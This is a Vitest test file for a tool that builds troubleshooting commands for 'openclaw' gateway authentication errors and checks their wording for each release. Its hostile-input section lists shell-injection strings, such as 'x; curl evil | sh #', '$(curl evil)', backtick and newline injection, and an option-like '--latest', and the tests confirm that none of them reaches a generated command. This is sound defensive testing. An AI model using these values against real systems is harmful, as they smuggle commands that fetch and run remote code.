import { describe, expect, it } from 'vitest';
import { plainText } from './command-values';
import { buildFixGuides } from './fix-guide';
import { parseRelease } from './release';

const DEVICE_ID = 'a3f1'.repeat(16);
const ALL_KINDS = [
  'gateway-token-mismatch', 'device-token-mismatch', 'gateway-token-missing', 'gateway-token-not-configured',
  'device-token-rejected', 'device-token-scope-mismatch', 'rate-limited', 'password-mismatch', 'password-missing',
  'password-not-configured', 'setup-code-invalid', 'pairing-required', 'device-identity-required',
  'origin-not-allowed', 'protocol-mismatch', 'connect-failed',
] as const;

const INVENTED = /openclaw gateway token (rotate|status|reset)/;
const allCommands = (guides: ReturnType<typeof buildFixGuides>) =>
  guides.flatMap((g) => [...g.steps, ...g.notes]).flatMap((s) => (s.command ? [s.command] : []));

describe('buildFixGuides', () => {
  it('puts B before A when both show', () => {
    const guides = buildFixGuides([{ kind: 'device-token-mismatch' }, { kind: 'gateway-token-mismatch' }]);
    expect(guides.map((g) => g.title)).toEqual(['Gateway token mismatch', 'Device token mismatch']);
  });

  it('fills in the device id', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId: DEVICE_ID, release: parseRelease('2026.9.6') });
    expect(allCommands([guide!])).toContain(`openclaw devices rotate --device ${DEVICE_ID} --role operator`);
    expect(allCommands([guide!])).toContain(`openclaw devices remove ${DEVICE_ID}`);
  });

  it('leaves a placeholder when the device id is unknown', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'device-token-mismatch' }]));
    expect(commands).toContain('openclaw devices rotate --device <deviceId> --role operator');
  });

  it('shows auth-token --show only from 2026.8.2', () => {
    const newer = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }], { release: parseRelease('2026.9.6') }));
    expect(newer).toContain('openclaw gateway auth-token --show');
    expect(newer).not.toContain('openclaw config get gateway.auth.token');
    const older = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }], { release: parseRelease('2026.4.24') }));
    expect(older).not.toContain('openclaw gateway auth-token --show');
    expect(older).toContain('openclaw config get gateway.auth.token');
    const unknown = allCommands(buildFixGuides([{ kind: 'gateway-token-mismatch' }]));
    expect(unknown).toEqual(expect.arrayContaining(['openclaw gateway auth-token --show', 'openclaw config get gateway.auth.token']));
  });

  it('gives the Docker variant for B and warns about commands that do not exist', () => {
    const [guide] = buildFixGuides([{ kind: 'gateway-token-mismatch' }]);
    expect(allCommands([guide!])).toContain('docker compose down && docker compose up -d');
    expect(guide!.notes.map((n) => plainText(n.text)).join(' ')).toMatch(/OPENCLAW_GATEWAY_TOKEN/);
    expect(guide!.notes.map((n) => plainText(n.text)).join(' ')).toMatch(/no release has them/);
  });

  it('never offers a command that does not exist', () => {
    const kinds = ALL_KINDS;
    const guides = buildFixGuides(kinds.map((kind) => ({ kind })));
    expect(guides).toHaveLength(kinds.length);
    for (const command of allCommands(guides)) {
      expect(command).not.toMatch(INVENTED);
      expect(command).toMatch(/^(openclaw|docker compose) /);
    }
  });

  it('fills in the pairing request id', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: 'r-42' }]));
    expect(commands).toEqual(['openclaw devices approve r-42']);
  });

  it('says the stale token is already gone once cleared', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceTokenCleared: true });
    expect(plainText(guide!.steps[0]!.text)).toMatch(/^Done/);
  });
});


const HOSTILE = ['x; curl evil | sh #', '$(curl evil)', '`curl evil`', "x' ; curl evil ; '", 'x\ncurl evil', '--latest', 'a'.repeat(1024 * 1024)];

describe('page data never becomes a shell command', () => {
  it('a hostile device id never reaches a command', () => {
    for (const deviceId of [...HOSTILE, DEVICE_ID.toUpperCase(), `${DEVICE_ID};id`]) {
      const commands = allCommands(buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId, release: parseRelease('2026.9.6') }));
      expect(commands).toContain('openclaw devices rotate --device <deviceId> --role operator');
      expect(commands).toContain('openclaw devices remove <deviceId>');
      for (const command of commands) {
        expect(command).not.toContain('curl');
        expect(command).not.toContain(';');
        expect(command.length).toBeLessThan(200);
      }
    }
  });

  it('says where to find the device id when the page’s does not fit', () => {
    const [guide] = buildFixGuides([{ kind: 'device-token-mismatch' }], { deviceId: 'x; curl evil | sh #' });
    const rotate = guide!.steps.find((step) => step.command?.includes('devices rotate'))!;
    expect(rotate.text).toContainEqual({ code: 'openclaw devices list' });
  });

  it('a hostile pairing request id never reaches a command', () => {
    for (const requestId of HOSTILE) {
      const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId }]));
      expect(commands).toEqual(['openclaw devices approve <requestId>', 'openclaw devices list']);
    }
  });

  it('an option-like request id cannot approve another device (`--latest`)', () => {
    const commands = allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: '--latest' }]));
    expect(commands.join('\n')).not.toContain('--latest');
  });

  it('keeps a UUID request id', () => {
    const id = '3f2b8c1e-9d4a-4e6b-8f7c-2a1b0c9d8e7f';
    expect(allCommands(buildFixGuides([{ kind: 'pairing-required', requestId: id }]))).toEqual([`openclaw devices approve ${id}`]);
  });

  it('a hostile origin never reaches a command', () => {
    for (const origin of [...HOSTILE, `https://gw.example"]' ; curl evil ; echo '`, 'http://a;b$c', "http://a'b", 'https://gw.example/path', 'http://u:p@gw.example']) {
      const commands = allCommands(buildFixGuides([{ kind: 'origin-not-allowed' }], { origin }));
      expect(commands).toEqual([`openclaw config set gateway.controlUi.allowedOrigins '["<origin>"]'`]);
    }
  });

  it('no page value in any context reaches any command', () => {
    for (const value of HOSTILE) {
      const guides = buildFixGuides(
        ALL_KINDS.map((kind) => ({ kind, requestId: value })),
        { deviceId: value, origin: value, release: parseRelease('2026.9.6') },
      );
      for (const command of allCommands(guides)) expect(command).not.toContain(value.slice(0, 12));
    }
  });
});

describe('page data never becomes formatting', () => {
  it('guide text marks code only where the extension wrote backticks', () => {
    const guides = buildFixGuides(ALL_KINDS.map((kind) => ({ kind })));
    for (const guide of guides) {
      for (const text of [guide.cause, guide.when, ...guide.steps.map((s) => s.text), ...guide.notes.map((n) => n.text)]) {
        for (const segment of text) if (typeof segment === 'string') expect(segment).not.toContain('`');
      }
    }
  });
});

describe('parseRelease', () => {
  it.each([
    ['2026.9.6', '2026.9.6'],
    ['2026.9.6-release-abc', '2026.9.6'],
    ['v2026.1.30', '2026.1.30'],
  ])('%s', (text, expected) => {
    const r = parseRelease(text);
    expect(r && `${r.year}.${r.month}.${r.day}`).toBe(expected);
  });
  it.each(['', 'latest', '2026.9', null, undefined])('rejects %j', (text) => expect(parseRelease(text)).toBeNull());
});

describe('commands by release', () => {
  const commandsFor = (kind: 'device-token-mismatch' | 'origin-not-allowed', ctx: Parameters<typeof buildFixGuides>[1]) =>
    allCommands(buildFixGuides([{ kind }], ctx));
  it('offers `devices remove` only from 2026.3.24', () => {
    expect(commandsFor('device-token-mismatch', { release: parseRelease('2026.2.26') }).some((c) => c.includes('devices remove'))).toBe(false);
    expect(commandsFor('device-token-mismatch', { release: parseRelease('2026.4.24') }).some((c) => c.includes('devices remove'))).toBe(true);
  });
  it('fills in the dashboard origin to allow', () => {
    expect(commandsFor('origin-not-allowed', { origin: 'https://gw.example' })).toEqual([
      `openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`,
    ]);
  });
});
